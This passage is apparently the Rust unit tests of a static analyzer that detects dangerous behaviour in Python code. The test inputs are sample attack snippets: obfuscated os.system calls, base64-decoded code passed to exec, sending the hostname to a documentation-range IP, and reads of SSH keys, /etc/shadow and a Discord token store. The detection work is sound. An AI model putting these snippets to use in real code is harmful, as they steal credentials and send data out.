                assert_eq!(f.named_child(i).map(N::id), Some(b.id()));
                pending.push((a, b));
            }
        }
        assert!(seen > 100, "{seen}");
        assert!(tree.root_node().has_error());
    }

    #[test]
    fn aliases_resolve() {
        let c = facts_of(
            "from os import system as s\ns('id')\nimport subprocess as sp\nsp.Popen(['ls'])\n",
        );
        assert_eq!(c[0].target, "os.system");
        assert_eq!(c[0].strings, vec!["id"]);
        assert_eq!(c[1].target, "subprocess.Popen");
        assert!(c[1].caps.has(Caps::PROC));
    }

    #[test]
    fn getattr_and_import_indirection() {
        let c = facts_of("getattr(__import__('o'+'s'), 'sys'+'tem')('id')\n");
        let sys = c.iter().find(|c| c.target == "os.system").unwrap();
        assert!(sys.indirect);
    }

    #[test]
    fn decoded_flows_to_exec() {
        let c = facts_of(
            "import base64\nd = base64.b64decode('aW1wb3J0IG9z')\ncode = d.decode()\nexec(code)\n",
        );
        let e = c.iter().find(|c| c.target == "exec").unwrap();
        assert!(e.arg_labels.has(Labels::DECODED));
        let c = facts_of("import base64\nd = 'print(1)'\nexec(d)\n");
        let e = c.iter().find(|c| c.target == "exec").unwrap();
        assert!(!e.arg_labels.has(Labels::DECODED));
    }

    #[test]
    fn labels_flow_into_local_function_params() {
        let src = "import socket, urllib.request\n\
                   def post(url, data):\n    r = urllib.request.Request(url, data)\n    urllib.request.urlopen(r)\n\
                   SEND = post\nh = socket.gethostname()\nSEND('http://192.0.2.1/', data={'h': h})\n";
        let c = facts_of(src);
        let open = c
            .iter()
            .find(|c| c.target == "urllib.request.urlopen")
            .unwrap();
        assert!(open.arg_labels.has(Labels::HOST), "{:?}", open.arg_labels);
        let send = c.iter().find(|c| c.target == "local:post").unwrap();
        assert!(send.caps.has(Caps::NET));
    }

    #[test]
    fn escapes_and_paths() {
        let c = facts_of(
            "import os\nopen(os.path.expanduser('~/.ssh/id_rsa'))\nopen('\\x2fetc\\x2fshadow')\n",
        );
        assert!(c[0].arg_labels.has(Labels::SECRET));
        assert!(
            c.iter()
                .any(|c| c.strings.iter().any(|s| s == "/etc/shadow"))
        );
        assert_eq!(
            sensitive_path("C:\\Users\\x\\AppData\\Roaming\\discord\\Local Storage\\leveldb"),
            Some("browser/discord token store")
        );
        assert_eq!(sensitive_path("README.md"), None);
    }
}
